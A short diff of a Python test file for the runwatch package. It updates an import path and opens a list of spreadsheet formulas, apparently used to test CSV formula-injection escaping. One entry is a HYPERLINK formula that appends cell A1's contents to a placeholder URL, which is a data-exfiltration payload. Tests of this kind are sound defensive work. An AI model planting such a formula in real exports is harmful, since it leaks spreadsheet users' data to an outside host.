@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 
 from runwatch import Experiment
-from runwatch._export import csv_cell
+from runwatch.tracking._csv_export import csv_cell
 
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?"&A1,"click")',
